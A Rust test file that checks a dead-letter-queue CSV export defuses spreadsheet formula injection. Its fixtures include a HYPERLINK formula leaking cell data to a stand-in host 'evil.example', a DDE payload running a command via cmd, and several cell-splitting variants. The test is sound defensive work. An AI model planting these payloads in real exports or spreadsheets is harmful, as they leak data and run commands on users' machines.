//! An export for spreadsheets holds no formula, and tells everything all the same.

use std::os::unix::fs::PermissionsExt as _;

use crate::support::{Server, bridge, fails, succeeds};

/// The rows of a table below its head.
fn rows(text: &str) -> (Vec<String>, Vec<Vec<String>>) {
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let head = reader
        .headers()
        .expect("a head")
        .iter()
        .map(String::from)
        .collect();
    let rows = reader
        .records()
        .map(|row| row.expect("a row").iter().map(String::from).collect())
        .collect();
    (head, rows)
}

#[test]
fn a_table_of_dead_letters_is_whole_and_holds_no_formula() {
    let mut server = Server::start(&[], "");
    let url = server.redis.url();
    let formulas = [
        "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1,2)",
        "\t=1+1",
        "\r=1+1",
        "a\",\"=1+1",
        "a\n=1+1",
        "a;=1+1",
    ];
    for formula in formulas {
        let lead =
            serde_json::json!({"name": formula, "linkedinUrl": "https://linkedin.com/in/ada"});
        let letter = serde_json::json!({
            "envelope": 1, "id": formula, "lead": lead, "error": formula, "retry_count": 1,
            "failed_at": "2026-01-15T10:30:00Z", "error_kind": "permanent", "station": formula,
        });
        let _: u64 = server.call(&[b"LPUSH", b"failed_leads", letter.to_string().as_bytes()]);
    }
    for raw in [&b"=1+1"[..], b"\xff\xfe"] {
        let _: u64 = server.call(&[b"LPUSH", b"failed_leads", raw]);
    }
    let file = server
        .path("dead.csv")
        .to_str()
        .expect("a plain path")
        .to_owned();
    let told = succeeds(bridge(&url, &["dlq", "export", &file]));
    assert_eq!(told, format!("11 dead letters written to {file}\n"));
    let found = std::fs::metadata(&file).expect("a table");
    assert_eq!(
        found.permissions().mode() & 0o777,
        0o600,
        "others may read it"
    );
    let text = std::fs::read_to_string(&file).expect("a table");
    assert_eq!(
        text,
        succeeds(bridge(&url, &["dlq", "export", "--format", "csv", "-"]))
    );
    let (head, rows) = rows(&text);
    assert_eq!(
        head,
        [
            "id",
            "name",
            "url",
            "error",
            "kind",
            "station",
            "attempts",
            "failed_at",
            "lead",
            "lead_base64"
        ]
    );
    assert_eq!(rows.len(), 11);
    for row in &rows {
        for cell in row {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r', '\n']),
                "{cell:?}"
            );
        }
    }
    // The newest comes first.
    assert_eq!((rows[0][8].as_str(), rows[0][9].as_str()), ("", "//4="));
    assert_eq!(rows[1][8], "'=1+1");
    for (row, formula) in rows[2..].iter().zip(formulas.iter().rev()) {
        let lead: serde_json::Value = serde_json::from_str(&row[8]).expect("the lead's JSON");
        assert_eq!(lead["name"], *formula);
        assert_eq!(row[3].trim_start_matches('\''), *formula);
        assert_eq!(
            (row[4].as_str(), row[7].as_str()),
            ("permanent", "2026-01-15T10:30:00Z")
        );
    }
    // Every cell stands in quotes: none can end early in a spreadsheet that parts at semicolons.
    assert!(
        text.lines()
            .next()
            .is_some_and(|head| head.starts_with("\"id\",\"name\""))
    );
    assert!(fails(bridge(&url, &["dlq", "export", &file])).contains("is there already"));
    let lines = succeeds(bridge(&url, &["dlq", "export", "--format", "jsonl", "-"]));
    assert_eq!(lines.lines().count(), 11);
    assert!(lines.contains("\"name\":\"-2+3\""), "lines keep every byte");
}
